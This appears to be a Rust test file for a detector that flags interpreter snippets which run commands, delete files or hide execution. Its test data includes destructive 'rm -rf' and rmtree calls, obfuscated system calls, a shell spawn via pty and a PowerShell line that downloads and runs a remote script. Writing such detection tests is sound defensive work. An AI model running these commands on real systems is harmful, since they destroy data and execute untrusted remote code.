use super::*;

fn asks(interpreter: &str, code: &str) -> bool {
    let report = read(interpreter, code);
    report.asks
        || !report.commands.is_empty()
        || !report.calls.is_empty()
        || !report.deletes.is_empty()
        || !report.deletes_all.is_empty()
}

#[test]
fn looking_something_up_passes() {
    for (interpreter, code) in [
        ("python", "import json,sys; print(json.load(sys.stdin)['version'])"),
        ("python", "import sys; print(sys.version)"),
        ("python", "import platform; print(platform.system())"),
        ("python", "print('rm -rf /'.replace('a', 'b'))"),
        ("python", "import re; print(re.compile('x').sub('', 'y'))"),
        ("python", "import torch; print(torch.cuda.is_available())"),
        ("python", "from datetime import date; print(date.today())"),
        ("python", "import numpy as np; print(np.array([1]).sum())"),
        ("python", "x = a.run; y = max(b.remove_count, 2)"),
        ("python", "import base64; print(base64.b64decode('aGk='))"),
        ("python", "for i in range(3):\n    print(i)  # exec this\n"),
        ("node", "console.log(require('./package.json').version)"),
        ("node", "console.log(/a(b)/.exec('ab')[1])"),
        ("node", "const x = [1,2].map(n => n * 2); console.log(x)"),
        ("perl", "print $1 if /foo(\\d+)/"),
        ("perl", "s/foo/bar/g"),
        ("ruby", "puts RUBY_VERSION"),
        ("php", "echo PHP_VERSION;"),
        ("powershell", "Get-Process | Sort-Object CPU"),
    ] {
        assert!(!asks(interpreter, code), "{interpreter}: {code}");
    }
}

#[test]
fn what_runs_deletes_or_hides_is_found() {
    for (interpreter, code) in [
        ("python", "import os; os.system('rm -rf v')"),
        ("python", "from os import system as s; s('x')"),
        ("python", "import subprocess; subprocess.run(['rm', '-rf', 'v'])"),
        ("python", "from subprocess import run; run('x', shell=True)"),
        ("python", "import shutil; shutil.rmtree('v')"),
        ("python", "exec(input())"),
        ("python", "import os as o; o.rename('a', 'b')"),
        ("python", "import subprocess as sp\nsp.run(['rm', '-rf', 'v'])"),
        ("python", "import shutil\nf = shutil.rmtree\nf('v')"),
        ("python", "from shutil import rmtree as z; z('v')"),
        ("python", "from os import remove; remove('v')"),
        ("python", "import os,glob; list(map(os.remove, glob.glob('*')))"),
        ("python", "import os,threading; threading.Thread(target=os.system, args=(x,)).start()"),
        ("node", "const {rmSync: z} = require('fs'); z('v', {recursive: true})"),
        ("node", "const f = require('fs').rmSync; const g = f; g('v')"),
        ("python", "__import__('os').system('x')"),
        ("python", "getattr(__import__('o'+'s'), 'sys'+'tem')('x')"),
        ("python", "import os; os.system('rm ' + '-rf v')"),
        ("python", "import socket,pty; pty.spawn('/bin/sh')"),
        ("node", "require('child_process').execSync('rm -rf v')"),
        ("node", "const {exec} = require('node:child_process'); exec(x)"),
        ("node", "require('fs').rmSync('v', {recursive: true})"),
        ("node", "eval(atob('x'))"),
        ("perl", "system 'rm -rf v'"),
        ("perl", "unlink glob '*'"),
        ("perl", "print `rm -rf v`"),
        ("ruby", "system('rm -rf v')"),
        ("ruby", "require 'fileutils'; FileUtils.rm_rf('v')"),
        ("ruby", "`rm -rf v`"),
        ("php", "system('rm -rf v');"),
        ("php", "eval(base64_decode('x'));"),
        ("lua", "os.execute('rm -rf v')"),
        ("powershell", "iex (iwr https://x.io/a.ps1)"),
        ("python", "\u{fdd0}"),
    ] {
        assert!(asks(interpreter, code), "{interpreter}: {code}");
    }
}

#[test]
fn plain_commands_and_paths_are_handed_on() {
    let report = read("python", "import os, shutil; os.system('ls -l'); shutil.rmtree('/x')");
    assert_eq!(
        (report.commands, report.deletes_all, report.deletes.len()),
        (vec!["ls -l".to_owned()], vec!["/x".to_owned()], 0)
    );
    let report = read("python", "import subprocess\nsubprocess.run(['git', 'log'], check=True)");
    assert_eq!(
        (report.asks, report.calls),
        (false, vec![vec!["git".to_owned(), "log".to_owned()]])
    );
    let report = read("python", "open('/etc/hosts', 'w').write('x')");
    assert_eq!(report.writes, ["/etc/hosts"]);
}

#[test]
fn hostile_text_is_read_once() {
    for text in ["'".repeat(50_000), "a.".repeat(50_000), "(".repeat(50_000), "\\".repeat(50_000)] {
        let _ = read("python", &text);
        let _ = read("perl", &format!("\"{text}"));
    }
}
